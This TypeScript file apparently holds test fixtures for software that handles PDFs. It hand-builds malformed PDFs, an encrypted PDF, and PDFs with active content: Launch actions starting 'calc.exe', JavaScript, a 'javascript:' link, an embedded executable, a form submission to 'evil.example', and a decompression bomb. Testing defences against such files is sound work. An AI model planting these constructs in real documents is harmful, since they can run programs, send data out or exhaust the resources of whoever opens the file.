import { createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, StandardFonts } from '@cantoo/pdf-lib';

type Page = { content: string; page?: string; kids?: string; count?: number };

/**
 * A PDF of one page, byte by byte. `content`: its operators; `page`: further entries of the page; `kids` and `count`:
 * the page tree, when it is an odd one; `objects`: further objects from number 6 on; `catalog`: further entries.
 */
export function handmadePdf(
  { content, page = '', kids = '3 0 R', count = 1 }: Page,
  { objects = [], catalog = '' }: { objects?: (string | Buffer)[]; catalog?: string } = {},
): Buffer {
  const bodies = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages/Kids[${kids}]/Count ${count}/MediaBox[0 0 595 842]>>`,
    `<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>${page}>>`,
    `<</Length ${content.length}>>stream\n${content}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...objects,
  ];
  const parts = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  for (const [index, body] of bodies.entries()) {
    offsets.push(parts.reduce((sum, { length }) => sum + length, 0));
    parts.push(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]));
  }
  const at = parts.reduce((sum, { length }) => sum + length, 0);
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = bodies.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(table)]);
}

const words = 'BT /F1 20 Tf 50 500 Td (Words) Tj ET';

/** Pages whose content is cut off or too long, by fault. */
export const unendingPdfs: Record<string, Buffer> = {
  'gives back more states than it saved': handmadePdf({ content: `Q Q 0 1 -1 0 595 0 cm ${words} Q` }),
  'saves more states than it gives back': handmadePdf({ content: `q 0.2 0 0 0.2 900 900 cm q q ${words}` }),
  'leaves a clip behind': handmadePdf({ content: `Q 300 400 5 5 re W n ${words}` }),
  'ends inside a text': handmadePdf({ content: `${words} BT /F1 20 Tf (Never closed` }),
  'ends inside a picture': handmadePdf({ content: `${words} BI /W 9000 /H 9000 /BPC 8 /CS /RGB ID 123` }),
  'has operators that nobody knows': handmadePdf({ content: `0 0\xec00 0 rg ${words} )) >> ] Q` }),
};

/** Its page is not a page object, but viewers show it. */
export const pdfOfOddKids = (): Buffer => handmadePdf({ content: words, kids: '4 0 R' });

/** One object is malformed, and harmful once a viewer has repaired it. */
export const malformedPdf = (): Buffer =>
  handmadePdf(
    { content: words, page: '/Annots[6 0 R]' },
    { objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9] MS)/A<</S/Launch/F(calc.exe)>>>>'] },
  );

/** Its page tree counts fewer pages than there are. */
export const pdfOfUncertainPages = (): Buffer =>
  handmadePdf(
    { content: words, kids: '3 0 R 6 0 R', count: 1 },
    {
      objects: ['<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>'],
    },
  );

/** Opens without a password, but is protected against changes. */
export async function protectedPdf(algorithm: 'RC4-40' | 'RC4-128' | 'AES-128' | 'AES-256'): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.TimesRoman);
  document.addPage([595, 842]).drawText('Question paper', { x: 50, y: 700, font });
  document.encrypt({
    ownerPassword: 'owner',
    algorithm,
    allowWeakCryptography: true,
    permissions: { modifying: false },
  });
  return Buffer.from(await document.save());
}

/** A PDF with every kind of active content, a link, a bookmark, and an attachment that contains `secret`. */
export const activePdf = (): Buffer =>
  handmadePdf(
    {
      content: words,
      page: '/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>/Annots[6 0 R 7 0 R 8 0 R 9 0 R 15 0 R 16 0 R]',
    },
    {
      catalog:
        '/OpenAction<</S/JavaScript/JS(app.alert\\(2\\))>>/Names<</JavaScript<</Names[(a) 10 0 R]>>/EmbeddedFiles<</Names[(f) 11 0 R]>>>>' +
        '/AF[11 0 R]/AcroForm<</Fields[]/XFA 12 0 R>>/Outlines 13 0 R',
      objects: [
        '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.com/more)>>>>',
        '<</Type/Annot/Subtype/Link/Rect[9 0 19 9]/A<</S/Launch/F(calc.exe)>>>>',
        '<</Type/Annot/Subtype/FileAttachment/Rect[20 0 29 9]/FS 11 0 R>>',
        '<</Type/Annot/Subtype/RichMedia/Rect[30 0 39 9]/RichMediaContent<</Assets<<>>>>>>',
        '<</S/JavaScript/JS(app.alert\\(3\\))>>',
        '<</Type/Filespec/F(notes.exe)/EF<</F 17 0 R>>>>',
        '<</Length 9>>stream\n<xdp:xdp>\nendstream',
        '<</Type/Outlines/First 14 0 R/Last 14 0 R/Count 1>>',
        '<</Title(Chapter 1)/Parent 13 0 R/Dest[3 0 R/Fit]>>',
        '<</Type/Annot/Subtype/Link/Rect[40 0 49 9]/A<</S/URI/URI(javascript:alert\\(4\\))>>>>',
        '<</Type/Annot/Subtype/Link/Rect[50 0 59 9]/Dest[3 0 R/Fit]/A<</S/GoTo/D[3 0 R/Fit]/Next<</S/SubmitForm/F(https://evil.example)>>>>>>',
        '<</Type/EmbeddedFile/Length 6>>stream\nsecret\nendstream',
      ],
    },
  );

/** A small file whose object stream unpacks to this many megabytes. */
export async function bombPdf(megabytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const piece = Buffer.alloc(1024 * 1024, ' ');
  const packed: Buffer[] = [];
  deflate.on('data', (part: Buffer) => packed.push(part));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  for (let written = 0; written < megabytes; written++) {
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  const bomb = deflateSync(Buffer.concat(packed));
  const head = `<</Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]/Length ${bomb.length}>>stream\n`;
  const object = Buffer.concat([Buffer.from(head), bomb, Buffer.from('\nendstream')]);
  return handmadePdf({ content: words }, { objects: [object] });
}
